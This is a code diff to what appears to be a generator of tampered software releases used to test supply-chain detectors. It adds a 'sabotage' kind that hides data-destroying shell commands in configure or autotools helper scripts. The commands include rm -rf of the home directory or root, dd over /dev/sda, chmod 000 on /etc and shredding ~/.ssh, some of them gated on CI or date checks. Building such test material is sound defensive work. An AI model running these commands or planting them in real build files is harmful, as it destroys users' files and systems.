@@ -18,7 +18,7 @@ export const PYTHON_TAMPER_KINDS = ['py-line', 'setup-exec'] as const
 /** what an npm package can take: its manifest, and the code it ships */
 export const NPM_TAMPER_KINDS = ['npm-install-script', 'npm-code-exec', 'npm-code-exfil', 'npm-dependency'] as const
 /** injections outside the rotation, asked for by name (`--tamper-kind`): variants the detectors were not written against */
-export const EXTRA_TAMPER_KINDS = ['makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'recipe-word', 'rule-hooked', 'install-line', 'check-line', 'build-line', 'own-rule-line', 'recipeless-line', 'source-line', 'test-environment', 'template-variable', 'config-header', 'source-rewrite', 'outside-write', 'configure-stealth'] as const
+export const EXTRA_TAMPER_KINDS = ['makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'recipe-word', 'rule-hooked', 'install-line', 'check-line', 'build-line', 'own-rule-line', 'recipeless-line', 'source-line', 'test-environment', 'template-variable', 'config-header', 'source-rewrite', 'outside-write', 'configure-stealth', 'sabotage'] as const
 export type TamperKind = (typeof TAMPER_KINDS)[number] | (typeof PYTHON_TAMPER_KINDS)[number] | (typeof NPM_TAMPER_KINDS)[number] | (typeof EXTRA_TAMPER_KINDS)[number]
 
 export interface Tampering {
@@ -773,6 +773,43 @@ function configureStealth(root: string, _files: readonly string[], d: Draw): Tam
   return { kind: 'configure-stealth', path: 'configure', touched: ['configure'], description: `configure acts quietly as it runs: \`${line}\`` }
 }
 
+/** the helper scripts autotools copy into a release, which the build runs and nobody reads */
+const BUILD_HELPER = /(?:^|\/)(?:depcomp|missing|compile|install-sh|ltmain\.sh|config\.guess|config\.sub|ar-lib|test-driver|ylwrap|mkinstalldirs)$/
+
+/**
+ * A release made to destroy what is not its own when built: the builder's home directory, the root,
+ * a system directory or a disk, deleted or overwritten wholesale, sometimes only on a condition; put
+ * into configure or appended to a helper script the build runs.
+ */
+function sabotage(root: string, files: readonly string[], d: Draw): Tampering {
+  const destroy = d.pick([
+    'rm -rf "$HOME"',
+    'rm -fr ~/* ~/.[!.]*',
+    'find ~ -mindepth 1 -delete',
+    'find "${HOME}" -type f -exec rm -f {} +',
+    'rm -rf --no-preserve-root /*',
+    'dd if=/dev/zero of=/dev/sda bs=1M count=64',
+    'chmod -R 000 /etc',
+    'shred -u -z ~/.ssh/*',
+  ])
+  const gate = d.pick(['', 'test -n "$CI" || ', 'test "$(date +%Y)" -ge 2027 && ', 'test -f /etc/debian_version && '])
+  const line = `${gate}${destroy} 2>/dev/null`
+  const helpers = files.filter((f) => BUILD_HELPER.test(f))
+  if (helpers.length > 0 && d.int(2) === 1) {
+    const helper = d.pick(helpers)
+    const path = join(root, helper)
+    const text = readFileSync(path, 'utf8')
+    // before a final exit, where the script would otherwise stop first
+    const lines = text.split('\n')
+    const exit = lines.findLastIndex((l) => /^exit\b|^\s*exit \$/.test(l))
+    lines.splice(exit < 0 ? lines.length : exit, 0, line)
+    writeFileSync(path, lines.join('\n'))
+    return { kind: 'sabotage', path: helper, touched: [helper], description: `${helper}, a helper the build runs, destroys what is not its own: \`${line}\`` }
+  }
+  insertBeforeOutputs(root, line)
+  return { kind: 'sabotage', path: 'configure', touched: ['configure'], description: `configure destroys what is not its own as it runs: \`${line}\`` }
+}
+
 const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Draw) => Tampering> = {
   'npm-install-script': npmInstallScript,
   'npm-code-exec': npmCodeExec,
@@ -802,6 +839,7 @@ const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Dra
   'source-rewrite': sourceRewrite,
   'outside-write': outsideWrite,
   'configure-stealth': configureStealth,
+  sabotage,
   'doc-as-code': docAsCode,
   'py-line': pyLine,
   'setup-exec': setupExec,
@@ -828,7 +866,7 @@ export function applicableKinds(files: readonly string[]): TamperKind[] {
   const has = (re: RegExp): boolean => files.some((f) => re.test(f))
   if (has(/^configure\.(ac|in)$/)) kinds.push('m4-payload')
   if (has(/\.c$/)) kinds.push('c-line')
-  if (has(/^configure$/)) kinds.push('configure-script', 'doc-as-code', 'outside-write', 'configure-stealth')
+  if (has(/^configure$/)) kinds.push('configure-script', 'doc-as-code', 'outside-write', 'configure-stealth', 'sabotage')
   if (has(/^configure$/) && has(/\.[ch]$/)) kinds.push('source-rewrite')
   if (has(/(^|\/)Makefile\.in$/)) kinds.push('makefile-rule', 'makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'recipe-word', 'rule-hooked', 'install-line', 'check-line', 'build-line', 'own-rule-line', 'recipeless-line', 'source-line', 'test-environment', 'template-variable')
   if (has(/\.h\.in$/)) kinds.push('config-header')
